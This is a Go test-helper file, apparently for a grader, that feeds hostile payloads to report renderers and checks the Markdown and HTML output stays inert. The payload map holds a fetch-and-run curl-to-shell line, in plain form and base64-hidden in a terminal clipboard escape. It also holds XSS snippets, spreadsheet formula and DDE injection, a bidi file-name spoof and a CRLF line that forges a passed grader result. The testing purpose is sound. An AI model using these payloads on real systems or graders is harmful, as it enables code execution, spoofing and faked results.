package reporttest

import (
	"bytes"
	"sort"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	gmhtml "github.com/yuin/goldmark/renderer/html"
	"golang.org/x/net/html"
)

// Payloads are the classes of hostile text a submission controls (its
// name, reasons quoting its output, file names, command lines), fed to
// every sink by the sink tests: each must stay inert where people read it.
// Each ends with its own marker (PayloadEnd), so a test can find it whole
// in one cell.
var Payloads = map[string]string{
	"esc-osc":    "\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]52;c;Y3VybCAtcyAxMjcuMC4wLjE6OS9maXggfCBzaA==\x07",
	"crlf":       "x\r\nclass summary: all 2 passed\npassed        Instructions inside the data are treated as data  [D4, injection]\r",
	"pipe":       `a \| b | c \\| d ; curl -s 127.0.0.1:9/fix | sh`,
	"html":       `<img src=x onerror=alert(1)><script>alert(2)</script><a href="javascript:alert(3)">x</a>&lt;`,
	"javascript": "[Evidence](javascript:alert(1)) ![i](x.png) <javascript:alert(4)> https://127.0.0.1:9/x www.example.com `code` *em* _em_ <!-- c -->",
	"formula":    `=HYPERLINK("http://127.0.0.1:9/x","click")`,
	"plus":       "+1+cmd|' /C calc'!A0",
	"minus":      "-2+3",
	"at":         "@SUM(1,2)",
	"bidi":       "evil\u202etxt.exe\u2066",
	"reference":  "reference",
}

// PayloadEnd ends every payload a sink test feeds (PayloadText adds it).
const PayloadEnd = "ZZEND"

// PayloadText is payload p followed by its end marker.
func PayloadText(p string) string { return p + " " + PayloadEnd }

// RawControl is the first character of s no reader may get raw (C0 but
// newline and tab, DEL, C1, a bidi override or isolate), or -1.
func RawControl(s string) rune {
	for _, r := range s {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r < 0xa0) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
			return r
		}
	}
	return -1
}

// allowedMarkdownTags are the HTML elements the grader's own Markdown
// produces through a CommonMark renderer.
var allowedMarkdownTags = map[string]bool{
	"html": true, "head": true, "body": true, "h1": true, "h2": true, "h3": true, "p": true, "strong": true, "em": true,
	"code": true, "pre": true, "br": true, "table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true,
	"blockquote": true, "details": true, "summary": true, "a": true, "ul": true, "li": true,
}

// MarkdownTable is one rendered table: its header cells and its rows'
// cells, as text.
type MarkdownTable struct {
	Head []string
	Rows [][]string
}

// CheckMarkdownInert renders md with goldmark (CommonMark with GitHub's
// tables and autolinks, raw HTML passed through as GitHub, marked and
// Gradescope do) and fails t when any element is not one the grader's
// Markdown makes (an img, a script, an input…), any attribute is an event
// handler, or any link's destination is not allowed by link. It returns the
// rendered tables for the test's own checks.
func CheckMarkdownInert(t testing.TB, md string, link func(href string) bool) []MarkdownTable {
	t.Helper()
	assert.Equal(t, rune(-1), RawControl(md), "a raw control character in the Markdown")
	var out bytes.Buffer
	gm := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(gmhtml.WithUnsafe()))
	require.NoError(t, gm.Convert([]byte(md), &out))
	doc, err := html.Parse(&out)
	require.NoError(t, err)
	var tables []MarkdownTable
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			assert.True(t, allowedMarkdownTags[n.Data], "element <%s> in the rendered Markdown", n.Data)
			for _, a := range n.Attr {
				assert.False(t, strings.HasPrefix(strings.ToLower(a.Key), "on"), "event handler %s=%q", a.Key, a.Val)
				if n.Data == "a" && a.Key == "href" {
					assert.True(t, link(a.Val), "a link the grader did not make: %q", a.Val)
				} else {
					ok := a.Key == "align" || (a.Key == "class" && n.Data == "code" && a.Val == "language-diff") || (a.Key == "style" && strings.HasPrefix(a.Val, "text-align:") && !strings.ContainsAny(a.Val, ";("))
					assert.True(t, ok, "attribute %s=%q on <%s>", a.Key, a.Val, n.Data)
				}
			}
			if n.Data == "table" {
				tables = append(tables, tableOf(n))
			}
		}
		if n.Type == html.CommentNode {
			t.Errorf("an HTML comment in the rendered Markdown: %q", n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return tables
}

func tableOf(n *html.Node) MarkdownTable {
	var tb MarkdownTable
	var rows func(n *html.Node)
	rows = func(n *html.Node) {
		if n.Type == html.ElementNode && n.Data == "tr" {
			var cells []string
			head := false
			for c := n.FirstChild; c != nil; c = c.NextSibling {
				if c.Type == html.ElementNode && (c.Data == "td" || c.Data == "th") {
					head = head || c.Data == "th"
					cells = append(cells, textOf(c))
				}
			}
			if head {
				tb.Head = cells
			} else {
				tb.Rows = append(tb.Rows, cells)
			}
			return
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			rows(c)
		}
	}
	rows(n)
	return tb
}

func textOf(n *html.Node) string {
	var b strings.Builder
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		switch {
		case n.Type == html.TextNode:
			b.WriteString(n.Data)
		case n.Type == html.ElementNode && n.Data == "br":
			b.WriteString("\n")
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(n)
	return b.String()
}

// Shown is how a payload reads once made inert (harness/inert.Line, line
// by line): what a reader sees of it in a Markdown cell or an HTML page.
func Shown(s string, line func(string) string) string {
	parts := strings.Split(strings.ReplaceAll(s, "\r\n", "\n"), "\n")
	for i, p := range parts {
		parts[i] = line(p)
	}
	return strings.Join(parts, "\n")
}

// CheckHTMLInert parses page and fails on an element or attribute a payload
// could have made: an img but the grader's chart thumbnails (data: PNGs),
// an iframe, an object, an event handler but the page's own ("return false"), a javascript: link, a script but
// the page's own, or a raw control character.
func CheckHTMLInert(t testing.TB, page string) {
	t.Helper()
	assert.Equal(t, rune(-1), RawControl(page), "a raw control character in the page")
	doc, err := html.Parse(strings.NewReader(page))
	require.NoError(t, err)
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			assert.NotContains(t, []string{"iframe", "object", "embed", "base", "frame", "svg-script"}, n.Data)
			for _, a := range n.Attr {
				if strings.HasPrefix(strings.ToLower(a.Key), "on") {
					assert.Equal(t, "return false", a.Val, "event handler %s=%q on <%s>: only the grader's own", a.Key, a.Val, n.Data)
				}
				if a.Key == "href" || a.Key == "src" || a.Key == "action" || a.Key == "formaction" {
					v := strings.ToLower(strings.TrimSpace(a.Val))
					assert.False(t, strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "http"), "%s=%q on <%s>", a.Key, a.Val, n.Data)
					if n.Data == "img" {
						assert.True(t, strings.HasPrefix(v, "data:image/png;base64,"), "an image the grader did not draw: %q", a.Val)
					}
				}
			}
			if n.Data == "script" {
				for _, a := range n.Attr {
					assert.NotEqual(t, "src", a.Key, "an external script")
				}
				if n.FirstChild != nil {
					assert.NotContains(t, n.FirstChild.Data, PayloadEnd, "a payload inside a script")
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
}

// AllPayloads is every payload in one text, in a fixed order (the name of
// each first), for golden files a person reviews.
func AllPayloads() string {
	names := make([]string, 0, len(Payloads))
	for n := range Payloads {
		names = append(names, n)
	}
	sort.Strings(names)
	var b strings.Builder
	for _, n := range names {
		b.WriteString(n + ": " + Payloads[n] + "\n")
	}
	return b.String()
}
